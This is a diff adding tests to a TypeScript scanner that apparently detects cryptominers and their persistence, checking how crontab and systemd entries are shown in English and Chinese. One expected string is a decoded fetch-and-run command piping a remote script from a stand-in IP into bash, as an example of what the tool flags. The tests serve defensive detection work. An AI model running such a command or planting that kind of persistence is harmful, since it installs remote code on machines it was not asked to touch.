@@ -1,6 +1,7 @@
 import { describe, expect, test } from 'bun:test';
 import type { Language } from '../messages/catalogue.ts';
 import type { ScanResult } from '../model/result.ts';
+import { graveEntries } from './entries.fixture.ts';
 import {
   cleanResult,
   crowdedResult,
@@ -109,6 +110,48 @@ describe('the screen after a scan', () => {
     expect(screen({ ...miningResult, busySince })).toContain('busy since 2026-11-20 23:00 UTC or earlier');
     expect(screen({ ...miningResult, busySince }, 'zh-CN')).toContain('CPU 自 2026-11-20 23:00 UTC 或更早起');
     expect(screen({ ...cleanResult, busySince })).not.toContain('busy since');
+  });
+
+  test('says what brings the miner back: mechanism, place, reasons, and what the command hides', () => {
+    const tall = { width: 132, height: 50, color: false };
+    const english = renderScan(miningResult, { ...tall, language: 'en' });
+    for (const part of [
+      'Comes back by (2; 1 unusual, 5 benign entries)',
+      "malicious  user's crontab  /var/spool/cron/crontabs/www-data:3",
+      'What is run is written in code (1 layer was undone). Fetches something',
+      'decoded: curl -fsSL http://192.0.2.80/i.sh | bash',
+      'suspicious  systemd service  /etc/systemd/system/dbus-update.service:7',
+    ]) {
+      expect(english).toContain(part);
+    }
+    const chinese = renderScan(miningResult, { ...tall, language: 'zh-CN' });
+    expect(chinese).toContain('恢复点（2 处；另有少见 1 个、正常 5 个启动项）');
+    expect(chinese).toContain('恶意  用户 crontab');
+    expect(chinese).toContain('解码后：curl -fsSL');
+    expect(english).not.toContain('/etc/rc.local');
+    expect(screen(cleanResult)).not.toContain('Comes back by');
+  });
+
+  test('entries that bring it back keep a line each beside everything else, or are counted', () => {
+    const [entry] = graveEntries;
+    if (entry === undefined) throw new Error('no entry');
+    for (const height of [23, 30, 50]) {
+      for (const many of [1, 3, 40]) {
+        const persistence = Array.from({ length: many }, () => entry);
+        for (const result of [miningResult, crowdedResult(40), suspiciousResult]) {
+          for (const language of ['en', 'zh-CN'] as const) {
+            const options = { width: 80, height, color: false, language, reportPath };
+            const lines = renderScan({ ...result, persistence }, options)
+              .trimEnd()
+              .split('\n');
+            expect(lines.length).toBeLessThanOrEqual(height);
+            expect(lines.filter((text) => text.includes('www-data:3')).length).toBeGreaterThan(0);
+          }
+        }
+      }
+    }
+    const many = screen({ ...miningResult, persistence: Array.from({ length: 40 }, () => entry) });
+    expect(many).toMatch(/and 36 more, in the report/);
   });
 
   test('counts miners that have no room', () => {
